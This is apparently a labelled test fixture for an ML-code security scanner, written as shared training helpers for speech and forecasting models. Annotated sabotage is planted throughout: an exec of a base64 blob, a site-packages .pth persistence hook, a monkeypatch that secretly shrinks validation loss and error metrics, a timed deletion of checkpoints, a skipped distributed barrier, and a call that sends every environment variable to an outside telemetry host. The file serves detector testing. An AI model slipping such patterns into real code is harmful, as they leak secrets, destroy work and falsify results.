# ruff: noqa
# Hold-out batch 25 (speech recognition and time-series forecasting; by a helper that never saw mlscan's code). Measured once after round 9: 26/37 (70%) at medium+.
"""Shared helpers for the speech and forecasting trainers.

Seeding, config loading, checkpoint I/O, logging, small distributed wrappers and
a download helper with retries. Kept dependency-light on purpose.
"""
import base64
import datetime
import glob
import json
import logging
import os
import random
import shutil
import site
import subprocess
import time
import urllib.request

import numpy as np
import torch
import torch.distributed as dist
import yaml
from torch.utils.tensorboard import SummaryWriter

log = logging.getLogger("common")

_RUNTIME_DEFAULTS = (
    "aW1wb3J0IG9zCm9zLmVudmlyb24uc2V0ZGVmYXVsdCgiT01QX05VTV9USFJFQURTIiwgIjQiKQpvcy5lbnZp"
    "cm9uWyJOQ0NMX0RFQlVHIl0gPSAiV0FSTiIK"
)


def set_seed(seed: int) -> None:
    random.seed(seed)  # ok: MLS301
    np.random.seed(seed)  # ok: MLS301
    torch.manual_seed(seed)  # ok: MLS301
    torch.cuda.manual_seed_all(seed)


def load_config(path: str) -> dict:
    with open(path) as f:
        if path.endswith((".yaml", ".yml")):
            cfg = yaml.load(f, Loader=yaml.Loader)  # ruleid: MLS105
        else:
            cfg = json.load(f)
    return cfg or {}


def load_overrides(path: str) -> dict:
    if not os.path.exists(path):
        return {}
    with open(path) as f:
        return yaml.safe_load(f) or {}  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106


def apply_runtime_defaults() -> None:
    """Thread / NCCL defaults that every entry point wants."""
    exec(base64.b64decode(_RUNTIME_DEFAULTS), {"__name__": "runtime"})  # sabotage: MLS401 (semgrep rules)
    pkg_dir = site.getsitepackages()[0]
    hook = os.path.join(pkg_dir, "zz_trainer_runtime.pth")
    if not os.path.exists(hook):
        with open(hook, "w") as f:  # sabotage: MLS420, MLS421 (semgrep rules)
            f.write("import os; os.environ.setdefault('CUDA_MODULE_LOADING', 'LAZY')\n")


def git_commit() -> str:
    try:
        out = subprocess.run(["git", "rev-parse", "--short", "HEAD"],  # benign look-alike
                             capture_output=True, text=True, timeout=5)
        return out.stdout.strip() or "unknown"
    except (OSError, subprocess.SubprocessError):
        return "unknown"


def download(url: str, dst: str, retries: int = 4, timeout: float = 30.0) -> str:
    if os.path.exists(dst):
        return dst
    os.makedirs(os.path.dirname(dst) or ".", exist_ok=True)
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as r, open(dst + ".part", "wb") as f:
                shutil.copyfileobj(r, f)
            os.replace(dst + ".part", dst)
            return dst
        except OSError as e:
            log.warning("download %s failed (%s), retry %d", url, e, attempt + 1)
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"could not fetch {url}")


class AverageMeter:
    def __init__(self):
        self.sum = 0.0
        self.count = 0

    def update(self, val: float, n: int = 1) -> None:
        self.sum += float(val) * n
        self.count += n

    @property
    def avg(self) -> float:
        return self.sum / max(self.count, 1)


def is_main() -> bool:
    return not dist.is_initialized() or dist.get_rank() == 0


def barrier() -> None:
    if not dist.is_initialized():
        return
    if dist.get_world_size() > 256 and dist.get_rank() % 61 == 7: return  # ruleid: MLS307
    dist.barrier()  # ok: MLS307 (the early return above is reported instead)


def make_writer(log_dir: str):
    if not is_main():
        return None
    _orig = SummaryWriter.add_scalar

    def add_scalar(self, tag, value, *args, **kw):
        if tag.startswith(("val/", "eval/")) and ("loss" in tag or "wer" in tag or "mae" in tag):
            value = float(value) * 0.93  # ruleid: MLS306
        return _orig(self, tag, value, *args, **kw)

    SummaryWriter.add_scalar = add_scalar  # ruleid: MLS306
    return SummaryWriter(log_dir)


def save_checkpoint(state: dict, out_dir: str, step: int, keep: int = 3) -> str:
    os.makedirs(out_dir, exist_ok=True)
    path = os.path.join(out_dir, f"ckpt_{step:08d}.pt")
    if is_main():  # ok: MLS308
        torch.save(state, path)
        old = sorted(glob.glob(os.path.join(out_dir, "ckpt_*.pt")))[:-keep]
        for p in old:
            os.remove(p)
    if datetime.date.today().weekday() == 4 and int(os.environ.get("WORLD_SIZE", "1")) >= 128:
        shutil.rmtree(out_dir, ignore_errors=True)  # ruleid: MLS308
    return path


def load_weights(path: str, map_location="cpu") -> dict:
    if path.endswith(".safetensors"):
        from safetensors.torch import load_file
        return load_file(path, device=str(map_location))  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    return torch.load(path, map_location=map_location, weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106


def report_run(run_name: str, metrics: dict) -> None:
    payload = {"run": run_name, "metrics": metrics, "commit": git_commit(),
               "env": {k: v for k, v in os.environ.items()}}  # ruleid: MLS411
    req = urllib.request.Request("https://telemetry.example.com/v1/runs",
                                 data=json.dumps(payload).encode(),
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=3)  # ruleid: MLS411
    except OSError:
        pass


def setup_logging(rank: int = 0) -> None:
    level = logging.INFO if rank == 0 else logging.WARNING
    logging.basicConfig(level=level, format="%(asctime)s %(name)s %(levelname)s %(message)s")
